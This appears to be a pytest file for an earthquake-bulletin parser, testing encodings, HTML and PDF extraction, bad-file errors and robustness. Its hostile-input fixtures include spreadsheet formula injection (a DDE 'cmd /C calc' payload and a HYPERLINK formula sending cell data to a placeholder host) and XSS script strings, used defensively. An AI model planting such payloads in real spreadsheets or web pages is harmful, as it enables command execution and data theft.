"""The file layer: bytes in any common encoding, HTML and PDF → the same events; bad files named.

``parse_bytes`` / ``parse_files`` and ``python -m tracker parse`` must decode every ordinary
bulletin, report an empty or binary file with an error that names it while the other files in the
same call still print their JSON (exit code 2), and never raise on hostile text. A hypothesis test
feeds arbitrary text to :func:`tracker.bulletin.parse`.

The bulletin below was written for these tests.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tracker.bulletin import parse, parse_bytes, parse_files
from tracker.model import ParseResult

ROOT = Path(__file__).resolve().parents[1]
PUBLISHED, TZ = dt.date(2024, 4, 24), "Asia/Taipei"

ENGLISH = ("A magnitude 6.1 earthquake struck off the coast of Hualien at 5:26 p.m. on Tuesday, at a depth of "
           "12.4 km, the Central Weather Administration said. It was followed by 14 aftershocks.\n")
LATIN1 = ("A magnitude 5.4 earthquake struck near Saint-Pierre on Réunion at 9:10 a.m. on Tuesday, the "
          "Institut de physique du globe said; résidents of Le Tampon felt a brief secousse. The préfecture "
          "reported no damage.\n")
BIG5 = ("花蓮縣近海發生規模6.1地震，震源深度12.4公里。\n"
        "A magnitude 6.1 earthquake struck off the coast of Hualien at 5:26 p.m. on Tuesday, the Central "
        "Weather Administration said.\n")


def magnitudes(result: ParseResult | None) -> list[float]:
    assert result is not None
    return sorted(e.magnitude for e in result.events)


def ok(data: bytes, name: str) -> ParseResult:
    res = parse_bytes(data, name, published=PUBLISHED, tz=TZ)
    assert res.error is None, f"{name}: {res.error}"
    assert res.bulletin is not None and res.result is not None
    return res.result


# --- encodings ----------------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_same_bulletin_in_each_encoding_parses_the_same(encoding: str) -> None:
    reference = parse(ENGLISH, published=PUBLISHED, tz=TZ)
    assert magnitudes(reference) == [6.1]
    got = ok(ENGLISH.encode(encoding), f"news.{encoding}.txt")
    assert got.events == reference.events
    assert got.tallies == reference.tallies


def test_utf16_with_bom_decodes_to_the_text() -> None:
    data = ENGLISH.encode("utf-16")
    assert data[:2] in (b"\xff\xfe", b"\xfe\xff")
    res = parse_bytes(data, "news-utf16.txt", published=PUBLISHED, tz=TZ)
    assert res.bulletin is not None and res.bulletin.text == ENGLISH


def test_latin1_accents_survive() -> None:
    res = parse_bytes(LATIN1.encode("latin-1"), "reunion.txt", published=PUBLISHED, tz=TZ)
    assert res.error is None, res.error
    assert res.bulletin is not None
    assert "Réunion" in res.bulletin.text and "préfecture" in res.bulletin.text
    assert res.result is not None
    assert res.result.events == parse(LATIN1, published=PUBLISHED, tz=TZ).events
    assert magnitudes(res.result) == [5.4]


def test_big5_chinese_decodes_and_parses_like_the_text() -> None:
    res = parse_bytes(BIG5.encode("big5"), "cwa-zh.txt", published=PUBLISHED, tz=TZ)
    assert res.error is None, res.error
    assert res.bulletin is not None and res.bulletin.text == BIG5
    assert res.result == parse(BIG5, published=PUBLISHED, tz=TZ)
    assert 6.1 in magnitudes(res.result)


def test_big5_bilingual_bulletin_is_one_quake() -> None:
    result = ok(BIG5.encode("big5"), "cwa-zh.txt")
    assert magnitudes(result) == [6.1]
    (event,) = result.events
    assert event.date_local == "2024-04-23" and event.time_local == "17:26"


@pytest.mark.parametrize(("encoding", "text"), [
    ("shift_jis", "能登半島で震度7、マグニチュード7.6の地震。A magnitude 7.6 quake struck Ishikawa on Monday.\n"),
    ("gb18030", "四川发生6.8级地震。A magnitude 6.8 quake struck Sichuan on Monday.\n"),
    ("utf-32", ENGLISH),
    ("utf-16-le", ENGLISH),  # no byte-order mark
])
def test_other_encodings_decode(encoding: str, text: str) -> None:
    res = parse_bytes(text.encode(encoding), f"news-{encoding}.txt", published=PUBLISHED, tz=TZ)
    assert res.error is None, res.error
    assert res.bulletin is not None and res.bulletin.text == text
    assert res.result == parse(text, published=PUBLISHED, tz=TZ)


def test_windows_line_ends_parse_like_unix_ones_with_spans_in_the_text_as_given() -> None:
    text = ("Recent quakes:\n\nM 4.4 - 12 km N of Suva, Fiji\n2024-05-14 22:31:05 (UTC)\n10.0 km\n\n"
            "A magnitude 5.1 earthquake struck Fiji on Monday, and 12 aftershocks followed.\n")
    crlf = text.replace("\n", "\r\n")
    unix = parse(text, published=dt.date(2024, 5, 15), tz="Pacific/Fiji")
    win = parse(crlf, published=dt.date(2024, 5, 15), tz="Pacific/Fiji")
    assert [e.magnitude for e in win.events] == [e.magnitude for e in unix.events] == [4.4, 5.1]
    assert [(e.depth_km, e.place, e.date_local) for e in win.events] == [(e.depth_km, e.place, e.date_local)
                                                                          for e in unix.events]
    for got, ref in zip([*win.events, *win.tallies], [*unix.events, *unix.tallies], strict=True):
        assert crlf[got.span[0]:got.span[1]].replace("\r", "") == text[ref.span[0]:ref.span[1]]


def test_stray_nul_in_text_is_tolerated() -> None:
    res = parse_bytes(ENGLISH.replace("said.", "said.\x00").encode("utf-8"), "nul.txt", published=PUBLISHED, tz=TZ)
    assert res.error is None, res.error
    assert magnitudes(res.result) == [6.1]


# --- HTML ---------------------------------------------------------------------------------------

HTML = (
    "<!DOCTYPE html><html><head><title>Quake news</title>"
    "<style>p::before { content: 'magnitude 9.1'; }</style>"
    "<script>var m = 'magnitude 8.8'; alert('magnitude 7.7');</script></head>"
    "<body><p>A <b>magnitude 6.1</b> earthquake struck off Hualien&nbsp;County at 5:26&nbsp;p.m. on Tuesday "
    "&ndash; the Central Weather Administration &amp; the fire agency said.</p>"
    "<script>document.write('magnitude 9.5')</script></body></html>"
)


def test_html_drops_script_and_style_and_reads_markup() -> None:
    res = parse_bytes(HTML.encode("utf-8"), "page.html", published=PUBLISHED, tz=TZ)
    assert res.error is None and res.bulletin is not None and res.result is not None
    text = res.bulletin.text
    assert "alert" not in text and "content:" not in text and "document.write" not in text
    assert "&amp;" not in text and "&nbsp;" not in text and "–" in text and "Weather Administration & the" in text
    assert magnitudes(res.result) == [6.1]
    (event,) = res.result.events
    assert event.date_local == "2024-04-23" and event.time_local == "17:26"


def test_html_sniffed_without_html_suffix() -> None:
    res = parse_bytes(HTML.encode("utf-8"), "download.txt", published=PUBLISHED, tz=TZ)
    assert res.error is None and res.result is not None
    assert magnitudes(res.result) == [6.1]


# --- PDF ----------------------------------------------------------------------------------------

def minimal_pdf(lines: list[str], compress: bool = False) -> bytes:
    """A one-page PDF whose text layer holds ``lines`` (Helvetica, WinAnsi), built by hand."""
    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    ops = ["BT", "/F1 11 Tf", "14 TL", "50 750 Td"] + [f"({esc(ln)}) Tj T*" for ln in lines] + ["ET"]
    stream = "\n".join(ops).encode("latin-1")
    extra = b""
    if compress:
        stream, extra = zlib.compress(stream), b" /Filter /FlateDecode"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n" % (len(stream), extra) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PDF_LINES = [
    "A magnitude 6.1 earthquake struck off the coast of Hualien at 5:26 p.m. on Tuesday,",
    "at a depth of 12.4 km, the Central Weather Administration said.",
]


@pytest.mark.parametrize("compress", [False, True], ids=["plain", "flate"])
def test_pdf_text_layer_is_read(compress: bool) -> None:
    res = parse_bytes(minimal_pdf(PDF_LINES, compress), "bulletin.pdf", published=PUBLISHED, tz=TZ)
    assert res.error is None, res.error
    assert res.bulletin is not None and "Central Weather Administration" in res.bulletin.text
    assert magnitudes(res.result) == [6.1]
    (event,) = res.result.events  # type: ignore[union-attr]
    assert event.depth_km == pytest.approx(12.4)
    assert event.date_local == "2024-04-23"


def test_pdf_without_text_is_a_clear_error() -> None:
    res = parse_bytes(minimal_pdf([]), "scan.pdf")
    assert res.error is not None and res.result is None
    assert "scan.pdf" in str(res.error)


def test_truncated_pdf_is_a_clear_error() -> None:
    res = parse_bytes(minimal_pdf(PDF_LINES)[:60], "broken.pdf")
    assert res.error is not None and "broken.pdf" in str(res.error)


# --- unreadable files ---------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
RANDOM = bytes((i * 197 + 13) % 256 for i in range(4096))  # deterministic noise, NULs included

BAD_FILES = {
    "empty.txt": b"",
    "blank.txt": b"  \n\t \n",
    "noise.bin": RANDOM,
    "picture.png": PNG + RANDOM[:512],
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_bad_bytes_give_an_error_naming_the_file(name: str) -> None:
    res = parse_bytes(BAD_FILES[name], name)
    assert res.error is not None, f"{name} was accepted"
    assert res.result is None and res.bulletin is None
    assert name in str(res.error)


def test_parse_files_reports_bad_files_and_goes_on(tmp_path: Path) -> None:
    good = tmp_path / "good.txt"
    good.write_text(ENGLISH, encoding="utf-8")
    paths = [tmp_path / "empty.txt", good, tmp_path / "picture.png", tmp_path / "missing.txt", good]
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "picture.png").write_bytes(BAD_FILES["picture.png"])
    results = list(parse_files(paths, published=PUBLISHED, tz=TZ))
    assert len(results) == 5
    assert [r.error is None for r in results] == [False, True, False, False, True]
    for path, res in zip(paths, results, strict=True):
        if res.error is not None:
            assert str(path) in str(res.error)
        else:
            assert magnitudes(res.result) == [6.1]


def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "TRACKER_DB"}
    env["PYTHONPATH"] = str(ROOT)
    return subprocess.run([sys.executable, "-m", "tracker", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=120, env=env)


def test_cli_parse_prints_good_files_and_names_bad_ones(tmp_path: Path) -> None:
    files = {
        "a-utf8.txt": ENGLISH.encode("utf-8"),
        "b-empty.txt": b"",
        "c-utf16.txt": ENGLISH.encode("utf-16"),
        "d-noise.bin": RANDOM,
        "e-page.html": HTML.encode("utf-8"),
        "f-bulletin.pdf": minimal_pdf(PDF_LINES),
        "g-big5.txt": BIG5.encode("big5"),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    r = run_cli("parse", *files, "--published", "2024-04-24", "--tz", TZ, "--json", cwd=tmp_path)
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr
    err_lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
    assert len(err_lines) == 2, r.stderr
    assert any("b-empty.txt" in ln for ln in err_lines) and any("d-noise.bin" in ln for ln in err_lines)
    docs = [json.loads(ln) for ln in r.stdout.splitlines() if ln.strip()]
    assert [d["bulletin"]["name"] for d in docs] == ["a-utf8.txt", "c-utf16.txt", "e-page.html",
                                                     "f-bulletin.pdf", "g-big5.txt"]
    for d in docs:
        assert d["bulletin"]["published"] == "2024-04-24" and d["bulletin"]["timezone"] == TZ
        assert 6.1 in [e["magnitude"] for e in d["events"]], d["bulletin"]["name"]
    assert docs[0]["events"] == docs[1]["events"]


def test_cli_broken_pdf_is_one_stderr_line(tmp_path: Path) -> None:
    (tmp_path / "broken.pdf").write_bytes(b"%PDF-1.7\ngarbage that is not a PDF body\n")
    (tmp_path / "good.txt").write_text(ENGLISH, encoding="utf-8")
    r = run_cli("parse", "broken.pdf", "good.txt", cwd=tmp_path)
    assert r.returncode == 2
    assert len(r.stdout.strip().splitlines()) == 1
    lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and "broken.pdf" in lines[0], r.stderr


def test_cli_parse_all_good_exits_zero(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(ENGLISH, encoding="utf-8")
    r = run_cli("parse", "a.txt", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    (doc,) = [json.loads(ln) for ln in r.stdout.splitlines() if ln.strip()]
    assert doc["bulletin"]["published"] is None
    (event,) = doc["events"]
    assert event["magnitude"] == 6.1 and event["date_local"] is None


# --- hostile text -------------------------------------------------------------------------------

HOSTILE = {
    "one-megabyte-line": ("magnitude 6.1 " + "x" * 97 + " ") * 9000 + "5.8",
    "digits-megabyte": "9" * 1_000_000,
    "spreadsheet-formula": '=HYPERLINK("http://example.invalid/?q="&A1,"magnitude 6.1 quake")\n'
                           "+cmd|' /C calc'!A0\n@SUM(1+1)*cmd|' /C calc'!A0\n-2+3",
    "script-tag": "<script>alert(1)</script> A magnitude 5.0 quake <img src=x onerror=alert(1)>",
    "nested-brackets": "(" * 5000 + "magnitude 6.1" + ")" * 5000,
    "control-chars": "magnitude\x00 6.1\x1b[31m quake \u202e struck\ufeff at 10:11pm \ud7ff",
    "many-numbers": " ".join(f"M{i % 10}.{i % 7} {i} km" for i in range(20000)),
    "repeated-dates": "on Tuesday " * 5000 + "a magnitude 4.0 quake",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_text_parses_without_raising(name: str) -> None:
    text = HOSTILE[name]
    result = parse(text, published=PUBLISHED, tz=TZ)
    assert isinstance(result, ParseResult)
    for e in result.events:
        assert 0 < e.magnitude < 10
        assert e.span is None or 0 <= e.span[0] <= e.span[1] <= len(text)


@pytest.mark.parametrize("name", ["one-megabyte-line", "spreadsheet-formula", "script-tag"])
def test_hostile_bytes_go_through_the_file_layer(name: str) -> None:
    res = parse_bytes(HOSTILE[name].encode("utf-8"), f"{name}.txt", published=PUBLISHED, tz=TZ)
    assert res.error is None or name in str(res.error)


def test_script_alert_html_is_not_executed_text() -> None:
    res = parse_bytes(b"<html><body><p>Hello</p><script>alert(1)</script></body></html>", "x.html")
    assert res.bulletin is not None and "alert" not in res.bulletin.text
    assert res.result == ParseResult()


# --- the parser never raises on text ------------------------------------------------------------

QUAKE_BITS = st.sampled_from([
    "magnitude", "M", "Mw", "ML", " 6.1", "5,8", "7.4-magnitude", "quake", "earthquake", "aftershocks",
    "depth of", "km", "miles", "(", ")", "on Tuesday", "yesterday morning", "last week", "10:11pm",
    "23:02", "GMT", "NST", "WIB", "Lok:", "LS", "BT", "Depth = 006", "N", "E", "Seventy-one", "dozen",
    "between", "and", "or higher", "above", "smaller than", "felt", "\n", ". ", ", ", "-", "=",
    "2024-04-03 07:58:09", "19/08/2018", "Jan. 21", "April 3", "three minutes later", "the same day",
    "intensity", "upper 5", "VI", "triggered by", "foreshock", "main quake", "could trigger", "12 miles (20 km)",
])
TEXTS = st.one_of(
    st.text(max_size=400),
    st.lists(st.one_of(QUAKE_BITS, st.text(max_size=6), st.integers(0, 2000).map(str)), max_size=60).map(" ".join),
)
ZONES = st.sampled_from([TZ, "UTC", "Asia/Kathmandu", "America/Santiago", "Pacific/Chatham", None])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=TEXTS, published=st.one_of(st.none(), st.dates(dt.date(1900, 1, 1), dt.date(2100, 12, 31))), tz=ZONES)
def test_parse_never_raises_on_text(text: str, published: dt.date | None, tz: str | None) -> None:
    result = parse(text, published=published, tz=tz)
    assert isinstance(result, ParseResult)
    for e in result.events:
        assert 0 < e.magnitude < 10, e
        assert e.span is not None and 0 <= e.span[0] <= e.span[1] <= len(text), e
    for t in result.tallies:
        assert t.count >= 0
        assert t.span is None or 0 <= t.span[0] <= t.span[1] <= len(text)
